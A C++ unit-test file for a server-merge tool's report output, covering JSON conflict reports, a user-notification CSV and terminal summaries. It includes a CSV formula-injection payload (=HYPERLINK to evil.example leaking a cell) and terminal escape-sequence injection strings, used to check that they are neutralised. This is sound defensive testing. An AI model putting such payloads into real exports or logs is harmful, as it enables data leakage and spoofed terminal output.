#include <gtest/gtest.h>

#include "report/PlanReport.h"
#include "tests/PlanFixtures.h"

namespace mm {
namespace {

Conflict conflict(std::string_view kind, std::string subject, uint64_t s, uint64_t t, uint64_t count,
                  std::string resolution) {
  return Conflict(conflict_kind_named(kind).value(), std::move(subject), s, t, std::move(resolution), count);
}

TEST(PlanReport, Json) {
  std::vector<Conflict> cs = {conflict("permalink", "permalinks", 0, 0, 7, "left"),
                              conflict("user_email_taken", "a\"b", 3, 4, 1, "mapped")};
  std::string json;
  JsonWriter w(json);
  w.begin_object();
  write_conflicts_json(w, cs);
  w.end_object();
  EXPECT_EQ(json,
            R"({"conflicts":[{"kind":"permalink","severity":"info","subject":"permalinks","source_line":0,"target_line":0,"count":7,"resolution":"left"},)"
            R"({"kind":"user_email_taken","severity":"error","subject":"a\"b","source_line":3,"target_line":4,"count":1,"resolution":"mapped"}],)"
            R"("summary":{"user_email_taken":1,"permalink":1}})");
  EXPECT_EQ(unresolved_errors(cs), 0u);
  cs[1].resolved = false;
  EXPECT_EQ(unresolved_errors(cs), 1u);
}

TEST(PlanReport, NotifyCsv) {
  MergePlan plan;
  plan.add(test::user_decision("a,b", UserAction::kMap, "t", false));
  UserDecision quiet;
  quiet.username = "quiet";
  plan.add(quiet);
  UserDecision sso;
  sso.username = "sso";
  sso.auth = AuthAction::kStrip;
  plan.add(sso);
  InstanceIndex source;
  source.users.push_back(IndexedUser{"a,b", "x\"y@z", "", "", "", std::nullopt, "", 0, 0, {}, 2, ""});
  source.finish();
  std::vector<Conflict> cs = {conflict("user_email_taken", "a,b", 2, 3, 1, ""), conflict("user_password_reset", "A,B", 2, 3, 1, ""),
                              conflict("user_auth_changed", "sso", 4, 0, 1, ""), conflict("emoji_clash", "sso", 5, 5, 1, "")};
  EXPECT_EQ(format_notify_csv(plan, source, cs),
            "username,email,action,target,reason\n"
            "\"a,b\",\"x\"\"y@z\",\"mapped onto t; not imported, password reset needed\",t,user_email_taken; user_password_reset\n"
            "sso,,\"new; sign-in method removed, password reset needed\",,user_auth_changed\n");
}

TEST(PlanReport, NotifyCsvNeutralisesFormulas) {
  MergePlan plan;
  plan.add(test::user_decision("-eve", UserAction::kRename, "@eve"));
  InstanceIndex source;
  source.users.push_back(
      IndexedUser{"-eve", "=HYPERLINK(\"https://evil.example/?\"&A3,\"reset here\")", "", "", "", std::nullopt, "", 0, 0, {}, 2, ""});
  source.finish();
  EXPECT_EQ(format_notify_csv(plan, source, {}),
            "username,email,action,target,reason\n"
            "\"'-eve\",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A3,\"\"reset here\"\")\",renamed to @eve,\"'@eve\",\n");
}

TEST(PlanReport, SummaryEscapesNamesForTheTerminal) {
  std::vector<Conflict> cs = {conflict("emoji_clash", "x\x1b[2J\nfake.jsonl:9: y", 2, 3, 1, "renamed\r\x9b")};
  EXPECT_EQ(format_conflict_summary(cs, 1),
            "  emoji_clash                         1  risk\n"
            "      x\\x1b[2J\\nfake.jsonl:9: y (line 2): renamed\\r\\x9b\n");
}

TEST(PlanReport, Summary) {
  std::vector<Conflict> cs = {conflict("emoji_clash", "x", 2, 3, 1, "renamed"), conflict("emoji_clash", "y", 4, 5, 1, "renamed"),
                              conflict("mention_rewrite", "@u", 0, 0, 12, "rewritten")};
  EXPECT_EQ(format_conflict_summary(cs, 1),
            "  emoji_clash                         2  risk\n"
            "      x (line 2): renamed\n"
            "      … and 1 more\n"
            "  mention_rewrite                     1  info\n"
            "      @u ×12: rewritten\n");
  EXPECT_EQ(format_conflict_summary({}), "  no conflicts\n");
}

}  // namespace
}  // namespace mm
